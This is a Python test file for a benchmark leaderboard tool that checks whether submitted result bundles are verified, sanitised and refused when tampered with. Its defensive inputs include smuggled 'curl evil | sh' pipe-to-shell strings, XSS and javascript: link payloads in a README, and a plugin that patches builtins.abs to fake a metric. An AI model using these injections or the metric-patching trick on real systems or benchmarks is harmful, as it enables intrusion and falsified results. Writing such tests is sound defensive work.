"""From nothing to the board: a new model, its runs, a bundle, the check of it, and what is refused."""

from __future__ import annotations

import hashlib
import json
import shutil
import zipfile
from collections.abc import Callable
from pathlib import Path

import numpy as np
import pytest

import toys
from bundling import CARD, RUN, code_of, edited, made_elsewhere, rewritten
from ebbench.plugins import loader
from ebbench.record import resultfiles

pytestmark = pytest.mark.usefixtures("maintainer")


BASE = {"name": "gan", "code_hash": "0" * 64, "hash": "0" * 64, "steps": 1, "seconds": 1.0}


@pytest.mark.medium
def test_a_stranger_gets_on_the_board(cli, bundle: Path, tmp_path: Path):
    # Elsewhere: neither the run store nor the model's folder is there.
    (tmp_path / "mine").rename(tmp_path / "gone")
    (tmp_path / "home").rename(tmp_path / "gone-home")
    said = cli("verify", bundle, "--results", "board")
    assert said.code == 0, said.err + said.out
    assert "all good: 5 results recomputed" in said.out and "metrics.error" in said.out
    made, problems = resultfiles.load_all(tmp_path / "board")
    assert [r.confirmed for r in made] == 5 * ["recomputed"] and problems == []
    table = json.loads(cli("table", "--task", "dots", "--results", "board", "--format", "json").out)
    assert (
        table[0]["tier"] == "recomputed" and table[0]["seeds"] == [0, 1, 2, 3, 4] and table[0]["rank"] is None
    )
    assert cli("site", "build", "--results", "board", "--out", "site").code == 0
    assert "recomputed" in (tmp_path / "site" / "tasks" / "dots.html").read_text()
    # The same bundle twice is the same board.
    before = {path.name for path in (tmp_path / "board").rglob("*")}
    assert cli("verify", bundle, "--results", "board").code == 0
    assert {path.name for path in (tmp_path / "board").rglob("*")} == before


def test_a_result_that_is_edited_afterwards_is_a_claim_again(cli, bundle: Path, tmp_path: Path):
    assert cli("verify", bundle, "--results", "board").code == 0
    path = next((tmp_path / "board").rglob("*.json"))
    raw = json.loads(path.read_text())
    raw["metrics"]["error"] = 0.0
    path.write_text(json.dumps(raw))
    assert resultfiles.read(path).confirmed == "claimed"


def test_dry_adds_nothing(cli, bundle: Path, tmp_path: Path):
    assert cli("verify", bundle, "--results", "board", "--dry").code == 0
    assert not (tmp_path / "board").exists()


@pytest.mark.parametrize(
    ("change", "said"),
    [
        (lambda raw: raw["metrics"].update(error=0.0), "metrics.error"),
        (lambda raw: raw["metrics"].pop("spread"), "metrics.spread"),
        (lambda raw: raw["metrics"].update(bonus=1.0), "metrics.bonus"),
        (lambda raw: raw["task"].update(version=9), "task.version"),
        (lambda raw: raw["task"].update(source="other"), "task.source"),
        (lambda raw: raw["task"].update(protocol="mine"), "task.protocol"),
        (lambda raw: raw["task"].update(name="nothing"), "unknown task"),
        (lambda raw: raw["model"].update(name="meg"), "model.name"),
        (lambda raw: raw["provenance"]["data_hashes"].update(dots="1" * 64), "data_hashes"),
        (lambda raw: raw["provenance"]["data_hashes"].clear(), "data_hashes"),
        (lambda raw: raw["provenance"].update(command="curl evil | sh"), "provenance.command"),
        (lambda raw: raw["task"].update(name="./plugins/dots"), "unknown task"),
        (lambda raw: raw["task"].update(name="a" * 5000), "task.name"),
        (lambda raw: raw["task"].update(options={}), "task.options"),
        (lambda raw: raw["task"].update(options={"points": "/dev/zero"}), "'points' cannot be"),
        (lambda raw: raw["model"].update(kind="control"), "model.kind"),
        (lambda raw: raw["model"].update(variant="tuned"), "model.variant"),
        (lambda raw: raw["model"].update(code_hash="0" * 64), "model.code_hash"),
        (lambda raw: raw.update(budget="endless"), "budget"),
        (lambda raw: raw.update(created="9999-12-31T23:59:59Z"), "created"),
        (lambda raw: raw.update(seed=-1), "seed"),
        (lambda raw: raw.update(run_id="other"), "run id"),
        (lambda raw: raw.update(schema_version=99), "schema_version 99"),
        (lambda raw: raw.update(extra=1), "extra"),
        (lambda raw: raw.update(budget="paper"), "config.steps"),
        (lambda raw: raw["config"].update(steps=5), "config.steps"),
        (lambda raw: raw["config"].update({"not a name": 5}), "config is"),
        (lambda raw: raw["config"].update({"__class__": 5}), "config is"),
        (lambda raw: raw["overrides"].update(evil="| sh"), "config.evil"),
        (lambda raw: raw["sampler"].update(name="best; curl evil | sh"), "sampler.name"),
        (lambda raw: raw["sampler"].update(knobs={"by": 1}), "sampler.knobs"),
        (lambda raw: raw["training"].update(hash="0" * 64), "training.hash"),
        (lambda raw: raw["scoring"].update(hash="0" * 64), "scoring.hash"),
        (lambda raw: raw.update(engine=0), "engine"),
        (lambda raw: raw["training"].update(base=BASE), "training.base"),
    ],
)
def test_a_claim_that_the_artefacts_do_not_bear_out_is_named(
    cli, bundle: Path, tmp_path: Path, change: Callable[[dict], None], said: str
):
    other = rewritten(bundle, lambda entries: edited(entries, change))
    end = cli("verify", other, "--results", "board")
    assert end.code == 2 and said in end.err + end.out, end.err + end.out
    assert "expected" in end.err
    assert not (tmp_path / "board").exists(), "nothing of it is on the board"


def test_a_name_on_the_board_is_its_author_s(cli, bundle: Path, tmp_path: Path):
    assert cli("verify", bundle, "--results", "board").code == 0
    before = {path: path.read_bytes() for path in (tmp_path / "board").rglob("*") if path.is_file()}
    other = rewritten(bundle, lambda e: e.update({"README.md": b"mine now"}))
    end = cli("verify", other, "--results", "board")
    assert end.code == 2 and "--same-author" in end.err
    # And who has the name still overwrites nothing.
    end = cli("verify", other, "--results", "board", "--same-author")
    assert end.code == 2 and "not on the board" in end.err
    assert {path: path.read_bytes() for path in (tmp_path / "board").rglob("*") if path.is_file()} == before


def test_submitting_needs_runs_that_were_made_here(cli, plugins: Path, tmp_path: Path):
    assert cli("new", "model", "mine").code == 0
    said = cli("submit", "./mine", "--results", "made")
    assert said.code == 2 and "no results of mine" in said.err and "ebbench run" in said.err
    assert not (tmp_path / "mine.zip").exists()


@pytest.mark.medium
def test_an_option_of_free_text_is_submitted_as_it_is_unless_it_names_a_file(cli, tmp_path: Path):
    shutil.copytree(loader.load("model", "vae").folder, tmp_path / "mine")
    card = tmp_path / "mine" / "card.toml"
    card.write_text(card.read_text().replace('"vae"', '"mine"').replace('title = "VAE"', 'title = "Mine"'))
    run = ["run", "--task", "gaussian", "--model", "./mine", "--budget", "smoke", "--seeds", "0", "--quiet"]
    assert cli(*run, "--set", "dim=5", "--results", "made").code == 0
    made = cli("submit", "./mine", "--results", "made", "--quiet")
    assert made.code == 0, made.err
    assert cli("verify", "mine.zip", "--results", "board").code == 0
    (one,) = resultfiles.load_all(tmp_path / "board")[0]
    assert one.task.options["covariance"] == "" and one.confirmed == "recomputed"
    np.savetxt(tmp_path / "own.csv", np.eye(8), delimiter=",")
    assert cli(*run, "--set", "covariance=own.csv", "--results", "other").code == 0
    refused = cli("submit", "./mine", "--results", "other", "--quiet")
    assert refused.code == 2 and "task.options.covariance" in refused.err, refused


def test_what_is_to_be_submitted_must_be_clear(cli, plugins: Path, tmp_path: Path):
    words = made_elsewhere(tmp_path)
    assert cli("submit").code == 2
    for wrong in (
        [*words, "blob"],
        [word for word in words if word not in ("--task", "dots")],
        [*words, "--runs", "x"],
    ):
        end = cli(*wrong)
        assert end.code == 2 and "not clear" in end.err, wrong
    (tmp_path / "card.toml").write_text(CARD.replace("afar", "blob"))
    end = cli(*words)
    assert end.code == 2 and "'blob' is a model of this project" in end.err
    (tmp_path / "card.toml").write_text("name = ")
    assert cli(*words).code == 2
    # Two seeds cannot be the same samples.
    (tmp_path / "card.toml").write_text(CARD)
    (tmp_path / "1.npz").write_bytes((tmp_path / "0.npz").read_bytes())
    end = cli(*words)
    assert end.code == 2, end.out


@pytest.mark.medium
def test_a_bundle_is_written_over_nothing_but_a_bundle(cli, plugins, tmp_path: Path):
    assert cli("run", "--task", "dots", "--model", "blob", "--budget", "smoke", "--quiet").code == 0
    card = plugins / "blob" / "card.toml"
    before = card.read_bytes()
    (tmp_path / "notes.txt").write_text("mine")
    (tmp_path / "link.zip").symlink_to(tmp_path / "notes.txt")
    (tmp_path / "folder").mkdir()
    for out in (card, "notes.txt", "link.zip", "folder", plugins / "blob" / "new.zip", "results/new.zip"):
        said = cli("submit", plugins / "blob", "--out", out, "--quiet")
        assert said.code == 2 and "--out" in said.err, said.err
    assert card.read_bytes() == before and (tmp_path / "notes.txt").read_text() == "mine"
    for _ in range(2):
        said = cli("submit", plugins / "blob", "--out", "mine.zip", "--quiet")
        assert said.code == 0, said.err


@pytest.mark.medium
@pytest.mark.real_process
def test_a_plug_in_that_patched_a_metric_deceives_nobody_but_itself(
    cli, plugins: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
):
    assert cli("new", "model", "mine").code == 0
    model = tmp_path / "mine" / "model.py"
    # The toy task takes the distance of two means by it.
    model.write_text(
        model.read_text() + "\n\nimport builtins\n\nbuiltins.abs = lambda x, real=abs: real(x) * 0.5\n"
    )
    monkeypatch.setattr("builtins.abs", abs)  # taken back at the end
    ran = cli("run", *RUN, "--results", "made", "--quiet")
    said = cli("submit", "./mine", "--results", "made", "--quiet")
    monkeypatch.undo()
    assert ran.code == 0, ran.err
    assert said.code == 2 and "does not verify" in said.err and "metrics.error" in said.err
    assert not (tmp_path / "mine.zip").exists()


@pytest.mark.medium
def test_the_board_keeps_the_texts_of_a_bundle_and_runs_none(cli, bundle: Path, tmp_path: Path):
    ran = tmp_path / "ran"
    more = {
        "model/LICENSE": b"Do as you like.",
        "model/more.py": f"open({str(ran)!r}, 'w')".encode(),
        "model/weights.bin": bytes(range(256)),
        "model/binary.py": b"\xff\xfe",
        "model/long.py": b"#" * (300 << 10),
        "model/setup.cfg": b"[x]",
    }

    def change(entries: dict[str, bytes]) -> None:
        entries |= more
        for name in [name for name in entries if name.startswith("results/")]:
            raw = json.loads(entries[name])
            raw["model"]["code_hash"] = raw["provenance"]["code_hash"] = code_of(entries)
            entries[name] = json.dumps(raw).encode()

    other = rewritten(bundle, change)
    assert cli("verify", other, "--results", "board", "--dry").code == 0
    assert not (tmp_path / "board").exists()
    said = cli("verify", other, "--results", "board")
    assert said.code == 0, said.err
    (folder,) = (tmp_path / "board" / "submissions").iterdir()
    assert folder.name == hashlib.sha256(other.read_bytes()).hexdigest()[:16]
    kept = {path.name: path.read_bytes() for path in folder.iterdir()}
    names = ["card.toml", "README.md", "model/model.py", "model/LICENSE", "model/more.py", "model/setup.cfg"]
    with zipfile.ZipFile(other) as packed:
        assert kept == {f"{name.replace('/', '-')}.txt": packed.read(name) for name in names}
    assert all(f"{name} is not kept" in said.out for name in more if name not in names)
    assert not ran.exists()
    # A second time is the same; another bundle's texts are not written over.
    assert cli("verify", other, "--results", "board").code == 0
    (folder / "model-more.py.txt").write_bytes(b"other")
    said = cli("verify", other, "--results", "board")
    assert said.code == 2 and "another bundle" in said.err


README = """# Mine

A *model* of mine, <script>alert(1)</script> and [bad](javascript:alert(2)), [odd](data:text/html,x),
![seen](https://evil.example/pixel.png), [good](https://example.org/paper).
"""


@pytest.mark.medium
def test_the_page_of_a_submission_keeps_its_words_and_obeys_none(cli, plugins: Path, tmp_path: Path):
    assert cli("new", "model", "mine").code == 0
    (tmp_path / "mine" / "README.md").write_text(README)
    (tmp_path / "mine" / "LICENSE").write_text("Do as you like.")
    assert cli("run", *RUN[:-1], "0", "--results", "made", "--quiet").code == 0
    assert cli("submit", "./mine", "--results", "made", "--quiet").code == 0
    assert cli("verify", "mine.zip", "--results", "board").code == 0
    (kept,) = (tmp_path / "board" / "submissions").iterdir()
    assert sorted(path.name for path in kept.iterdir()) == [
        "README.md.txt",
        "card.toml.txt",
        "model-LICENSE.txt",
        "model-model.py.txt",
    ]
    assert resultfiles.load_all(tmp_path / "board")[1] == []
    # Where it is shown nothing else of it is.
    shutil.rmtree(tmp_path / "mine")
    assert cli("site", "build", "--results", "board", "--out", "site").code == 0
    page = (tmp_path / "site" / "methods" / "mine.html").read_text()
    assert "Submitted." in page and "A <em>model</em> of mine" in page
    assert "<script>alert" not in page and "javascript:" not in page.replace("(javascript:alert(2))", "")
    assert "evil.example" not in page and 'href="data:text' not in page
    assert '<a href="https://example.org/paper" rel="nofollow noopener">' in page
    for name in ("card.toml", "model-LICENSE", "model-model.py"):
        shown = name.removeprefix("model-")
        assert f'<a href="mine-{name}.txt">{shown}</a>' in page
        assert (tmp_path / "site" / "methods" / f"mine-{name}.txt").is_file()
    assert "ebbench run --task dots --model ./mine --budget smoke" in page


@pytest.mark.medium
def test_several_tasks_and_protocols_go_into_one_bundle(cli, plugins: Path, tmp_path: Path):
    # One training under two protocols, and another task on the same data: their samples may be the same.
    toys.write_task(plugins, toys.TASK.replace("DotsTask", "SpotsTask"), "spots")
    assert cli("new", "model", "mine").code == 0
    for task, protocol in (("dots", "clean"), ("dots", "published"), ("spots", "clean")):
        words = ["run", "--task", task, "--protocol", protocol, *RUN[2:-1], "0-1"]
        assert cli(*words, "--results", "made", "--quiet").code == 0
    said = cli("submit", "./mine", "--results", "made", "--quiet")
    assert said.code == 0 and "6 results" in said.out, said.err
    assert cli("verify", "mine.zip", "--results", "board").code == 0
    made, _ = resultfiles.load_all(tmp_path / "board")
    assert sorted((one.task.name, one.task.protocol, one.seed) for one in made) == [
        ("dots", "clean", 0),
        ("dots", "clean", 1),
        ("dots", "published", 0),
        ("dots", "published", 1),
        ("spots", "clean", 0),
        ("spots", "clean", 1),
    ]
    assert len({one.verification.details["arrays"] for one in made}) == 2, "that is what is tested"
